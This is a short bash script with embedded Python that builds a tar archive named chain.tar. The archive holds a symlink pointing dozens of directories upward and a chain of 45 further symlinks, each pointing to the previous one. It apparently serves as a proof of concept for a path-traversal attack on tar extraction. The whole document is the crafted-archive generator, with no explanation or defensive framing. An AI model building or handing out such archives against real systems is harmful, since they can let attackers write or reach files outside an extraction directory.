#!/usr/bin/env bash
set -eu
python3 - <<'PY'
import tarfile, io
with tarfile.open("chain.tar", "w") as t:
    def link(name, target):
        i = tarfile.TarInfo(name); i.type = tarfile.SYMTYPE; i.linkname = target; t.addfile(i)
    link("c0", "../../../../../../../../../../../../../../../../../../../../../../../../../../../../../..")
    for n in range(1, 46):
        link("c%d" % n, "c%d" % (n - 1))
PY
